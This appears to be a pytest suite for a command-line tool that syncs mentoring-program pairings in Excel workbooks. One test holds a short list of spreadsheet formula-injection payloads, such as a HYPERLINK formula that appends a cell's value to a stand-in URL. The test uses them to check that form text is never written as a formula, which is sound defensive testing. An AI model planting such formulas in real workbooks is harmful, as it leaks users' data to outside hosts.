"""End to end through the command line, on real .xlsx workbooks read back with openpyxl."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import click
import openpyxl
import pytest
from click.testing import CliRunner

from sheets_sync.cli import main

TODAY = "2026-11-24"
INPUT_TABS = ("Start Here", "How it works", "Settings", "Rules", "Rule tests", "Mentees",
              "Mentors", "Check-ins", "Lists")
OWNED = ("Pairings", "Schedule", "Follow-ups", "Unmatched", "Problems", "Dashboard", "Sync Log")
PAYLOADS = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(1)",
            '=IMPORTXML("http://x","//a")']


def run(*args: str):
    result = CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)
    return result


@pytest.fixture(scope="module")
def sample_book(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("sample") / "demo.xlsx"
    result = run("new", path, "--program", "general", "--sample", 80, "--today", "2026-11-25")
    assert result.exit_code == 0, result.output
    return path


@pytest.fixture
def book(sample_book: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "program.xlsx"
    shutil.copy(sample_book, copy)
    return copy


def rows(path: Path, tab: str) -> list[dict]:
    ws = openpyxl.load_workbook(path)[tab]
    grid = list(ws.iter_rows(values_only=True))
    return [dict(zip(grid[0], row, strict=False)) for row in grid[1:]]


def every_cell(path: Path, tab: str) -> list[tuple]:
    ws = openpyxl.load_workbook(path)[tab]
    return [(c.coordinate, c.value, c.data_type) for row in ws.iter_rows() for c in row]


def edit(path: Path, tab: str, changes: dict[str, object]) -> None:
    """Type values into cells; text stays text, as a form response would."""
    book = openpyxl.load_workbook(path)
    for coordinate, value in changes.items():
        book[tab][coordinate] = value
        if isinstance(value, str):
            book[tab][coordinate].data_type = "s"
    book.save(path)


def sheet_parts(path: Path) -> dict[str, str]:
    """Tab name -> its XML part inside the .xlsx."""
    book = openpyxl.load_workbook(path)
    return {ws.title: f"xl/worksheets/sheet{k}.xml" for k, ws in enumerate(book.worksheets, 1)}


def test_demo_sync_fills_every_owned_tab_and_a_second_run_touches_nothing(book: Path):
    before = {tab: every_cell(book, tab) for tab in INPUT_TABS}
    result = run("sync", book, "--today", TODAY)
    assert result.exit_code == 0, result.output
    assert "Written." in result.output
    for tab in ("Pairings", "Schedule", "Follow-ups", "Unmatched", "Dashboard", "Sync Log"):
        assert rows(book, tab), f"{tab} is empty"
    flags = {r["Flag"] for r in rows(book, "Follow-ups")}
    assert flags == {"Concern raised", "Escalate", "Overdue", "Awaiting first meeting",
                     "Due soon", "On track"}
    assert all(r["Reason"] for r in rows(book, "Unmatched"))
    assert {tab: every_cell(book, tab) for tab in INPUT_TABS} == before

    content, mtime = book.read_bytes(), book.stat().st_mtime_ns
    again = run("sync", book, "--today", TODAY)
    assert again.exit_code == 0
    assert "Nothing changed; the workbook was not touched." in again.output
    assert book.read_bytes() == content and book.stat().st_mtime_ns == mtime
    assert len(rows(book, "Sync Log")) == 1


def test_owned_tabs_hold_values_only_and_pairings_has_a_status_dropdown(book: Path):
    run("sync", book, "--today", TODAY)
    workbook = openpyxl.load_workbook(book)
    for tab in OWNED:
        ws = workbook[tab]
        assert ws.freeze_panes == "A2"
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row), tab
    validations = workbook["Pairings"].data_validations.dataValidation
    assert any("Rematch" in (v.formula1 or "") and "H2" in str(v.sqref) for v in validations)


def test_form_text_is_never_written_as_a_formula(book: Path):
    payload_rows = {f"C{k}": payload for k, payload in enumerate(PAYLOADS, start=2)}
    edit(book, "Mentees", payload_rows)  # names of the first five mentees
    edit(book, "Check-ins", {"H2": PAYLOADS[0]})
    result = run("sync", book, "--today", TODAY)
    assert result.exit_code == 0, result.output
    written = openpyxl.load_workbook(book)
    names = {c.value: c.data_type for row in written["Pairings"].iter_rows() for c in row}
    found = [p for p in PAYLOADS if p in names]
    assert found, "the payload names should reach Pairings"
    assert all(names[p] == "s" for p in found)
    parts = sheet_parts(book)
    with zipfile.ZipFile(book) as archive:
        for tab in OWNED:
            xml = archive.read(parts[tab])
            assert b"<f>" not in xml and b"<f " not in xml, tab


def test_coordinator_decisions_survive_and_are_honoured(book: Path):
    run("sync", book, "--today", TODAY)
    pairs = rows(book, "Pairings")
    proposed = [k for k, p in enumerate(pairs, start=2) if p["Status"] == "Proposed"]
    rejected_row, rematch_row = proposed[0], proposed[1]
    rejected = pairs[rejected_row - 2]
    rematched = pairs[rematch_row - 2]
    # Status is H, Coordinator Notes M; N is the first free column.
    edit(book, "Pairings", {f"H{rejected_row}": "Rejected", f"H{rematch_row}": "Rematch",
                            f"M{rejected_row}": "not a good fit", "N1": "Called?",
                            f"N{rematch_row}": "yes, Tuesday"})
    # Mentees sent back are matched before anyone else, when a mentor has room.
    header = [c.value for c in openpyxl.load_workbook(book)["Mentors"][1]]
    capacity = openpyxl.utils.get_column_letter(header.index("Capacity") + 1)
    edit(book, "Mentors", {f"{capacity}{k}": 10 for k in range(2, 40)})
    result = run("sync", book, "--today", TODAY)
    assert result.exit_code == 0, result.output
    after = rows(book, "Pairings")
    assert after[rejected_row - 2]["Status"] == "Rejected"
    assert after[rejected_row - 2]["Coordinator Notes"] == "not a good fit"
    assert after[rematch_row - 2]["Status"] == "Ended"
    assert after[rematch_row - 2]["Called?"] == "yes, Tuesday"
    assert [p["Pair ID"] for p in after[:len(pairs)]] == [p["Pair ID"] for p in pairs]
    pairs_now = {(p["Mentee Email"], p["Mentor Email"]) for p in after if p["Status"] != "Ended"
                 and p["Status"] != "Rejected"}
    assert (rejected["Mentee Email"], rejected["Mentor Email"]) not in pairs_now
    assert (rematched["Mentee Email"], rematched["Mentor Email"]) not in pairs_now
    assert any(p["Mentee Email"] == rematched["Mentee Email"] for p in after[len(pairs):])


def test_dry_run_and_json_and_quiet(book: Path):
    content = book.read_bytes()
    dry = run("sync", book, "--today", TODAY, "--dry-run")
    assert dry.exit_code == 0
    assert "Pairings" in dry.output and "added" in dry.output
    assert "Dry run: nothing was written." in dry.output
    assert book.read_bytes() == content
    as_json = run("sync", book, "--today", TODAY, "--json")
    summary = json.loads(as_json.output)
    assert summary["written"] is True and summary["new_pairs"] > 0
    assert summary["tabs"]["Pairings"]["added"] > 0
    assert run("sync", book, "--today", TODAY, "--quiet").output == ""


def test_bad_rules_row_exits_2_and_says_so_in_problems_and_the_sync_log(book: Path):
    edit(book, "Rules", {"C3": "kind of similar"})
    dry = book.read_bytes()
    assert run("sync", book, "--today", TODAY, "--dry-run").exit_code == 2
    assert book.read_bytes() == dry  # a dry run writes nothing, even to report
    result = run("sync", book, "--today", TODAY)
    assert result.exit_code == 2
    assert "Rules row 3, Test: There is no test called 'kind of similar'" in result.output
    assert "Traceback" not in result.output
    problems = rows(book, "Problems")
    assert problems[0]["Tab"] == "Rules" and problems[0]["Row"] == 3
    assert problems[0]["Problem"].startswith("Syncs are stopped until this is fixed.")
    assert "Sync stopped" in rows(book, "Sync Log")[-1]["Changes"]
    content = book.read_bytes()
    assert run("sync", book, "--today", TODAY).exit_code == 2
    assert book.read_bytes() == content  # the same stop again writes nothing


@pytest.mark.parametrize("damage", ["shape", "sparkline"])
def test_content_openpyxl_would_drop_survives_a_sync_byte_for_byte(book: Path, damage: str):
    from test_excel_backend import sheet_part
    from test_xlsx_patch import SPARKLINES, add_shape, add_sheet_extension, zip_parts

    drawing = add_shape(book, "Mentors") if damage == "shape" else None
    if damage == "sparkline":
        add_sheet_extension(book, "Mentors", SPARKLINES)
    mentors = sheet_part(book, "Mentors")
    before = zip_parts(book)
    result = run("sync", book, "--today", TODAY)
    assert result.exit_code == 0, result.output
    after = zip_parts(book)
    assert after[mentors] == before[mentors]
    assert (b"<drawing " if damage == "shape" else b"sparklineGroup") in after[mentors]
    if drawing:
        assert after[drawing] == before[drawing]
    assert "Nothing changed" in run("sync", book, "--today", TODAY).output


def test_problems_tab_reports_bad_cells(book: Path):
    header = [c.value for c in openpyxl.load_workbook(book)["Mentors"][1]]
    capacity = openpyxl.utils.get_column_letter(header.index("Capacity") + 1)
    edit(book, "Mentees", {"B2": None, "B3": "=not an email", "B5": "Dup@Example.org",
                           "B6": " dup@example.org"})
    edit(book, "Mentors", {f"{capacity}2": "two"})
    run("sync", book, "--today", TODAY)
    problems = {(p["Tab"], p["Row"], p["Column"]): p["Problem"] for p in rows(book, "Problems")}
    assert "No email address" in problems[("Mentees", 2, "Email Address")]
    assert "not an email address" in problems[("Mentees", 3, "Email Address")]
    assert "signed up again on row" in problems[("Mentees", 5, "Email Address")]
    assert "whole number" in problems[("Mentors", 2, "Capacity")]


def test_check_and_explain(book: Path):
    checked = run("check", book, "--today", TODAY)
    assert checked.exit_code == 0
    assert "rules" in checked.output
    run("sync", book, "--today", TODAY)
    unmatched = rows(book, "Unmatched")[0]
    explained = run("explain", book, unmatched["Email"], "--today", TODAY)
    assert explained.exit_code == 0, explained.output
    assert "Candidates, best first:" in explained.output
    assert "Unmatched:" in explained.output
    preferences = [line.split() for line in explained.output.splitlines()
                   if line.rstrip().endswith(" points")]
    assert preferences and {words[0] for words in preferences} <= {"yes:", "partly:", "no:"}
    assert all(words[-3] == "of" for words in preferences)  # "21.4 of 42.9 points"
    assert "->" not in explained.output and "(s)" not in explained.output
    missing = run("explain", book, "nobody@example.org", "--today", TODAY)
    assert missing.exit_code == 2 and "No one with the email" in missing.output


def test_every_command_has_help_and_is_in_the_readme():
    readme = (Path(__file__).parent.parent / "README.md").read_text()
    for name, command in main.commands.items():
        result = run(name, "--help")
        assert result.exit_code == 0, name
        summary = (command.help or "").split("\n")[0].strip()
        assert summary and summary in " ".join(result.output.split()), name
        for option in command.params:
            if isinstance(option, click.Option):
                assert option.opts[0] in result.output, (name, option.opts[0])
                assert option.help, (name, option.opts[0])
        assert f"sheets-sync {name}" in readme, f"README never shows `sheets-sync {name}`"


def test_unreadable_target_exits_3(tmp_path: Path):
    result = run("sync", tmp_path / "missing.xlsx")
    assert result.exit_code == 3
    assert "Traceback" not in result.output


def test_a_sync_whose_output_is_cut_off_says_so_and_keeps_its_work(tmp_path: Path):
    path = tmp_path / "demo.xlsx"
    assert run("new", path, "--program", "general", "--sample", "20").exit_code == 0
    child = subprocess.Popen([sys.executable, "-m", "sheets_sync", "sync", str(path),
                              "--today", "2026-11-24"], stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
    assert child.stdout is not None and child.stderr is not None
    child.stdout.close()  # as `| head` does once it has its lines
    status, said = child.wait(timeout=120), child.stderr.read()
    assert status == 1 and "output was closed" in said, said
    assert "unexpectedly" not in said and "Traceback" not in said
    assert "Pairings" in openpyxl.load_workbook(path, read_only=True).sheetnames


def test_a_today_that_is_not_a_day_says_how_to_write_one(tmp_path: Path):
    result = run("sync", tmp_path / "program.xlsx", "--today", "12/5")
    assert result.exit_code == 2
    assert "'12/5' is not a day written as year-month-day, like 2026-11-24" in result.output
    assert "%Y" not in result.output


def test_a_stopped_sync_still_prints_one_json_object(tmp_path: Path):
    path = tmp_path / "program.xlsx"
    assert run("new", path, "--program", "general", "--sample", "10").exit_code == 0
    book = openpyxl.load_workbook(path)
    book["Rules"]["C2"] = "nonsense test"
    book.save(path)
    done = subprocess.run([sys.executable, "-m", "sheets_sync", "sync", str(path), "--json",
                           "--today", "2026-11-24"], capture_output=True, text=True, check=False)
    assert done.returncode == 2
    said = json.loads(done.stdout)
    assert said["stopped"] is True and said["exit_code"] == 2 and "Rules" in said["error"]
    assert "Rules" in done.stderr  # the error itself, as without --json


def test_python_dash_m_works(tmp_path: Path):
    done = subprocess.run([sys.executable, "-m", "sheets_sync", "programs"], capture_output=True,
                          text=True, check=False)
    assert done.returncode == 0 and "general" in done.stdout


def test_the_command_line_does_not_load_what_only_cron_and_sending_need():
    # Every cron run of `sync` pays for what the command line imports; the scheduler entries'
    # renderers (about 25 ms) are for `cron` alone, smtplib and ssl (about 10 ms) for sending.
    probe = ("import sys, sheets_sync.cli; "
             "print([m for m in ('sheets_sync.ops.scheduling', 'smtplib', 'ssl') "
             "if m in sys.modules])")
    loaded = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True,
                            check=True).stdout.strip()
    assert loaded == "[]"
    assert "crontab" in run("cron", "book.xlsx", "--every", "1h").output
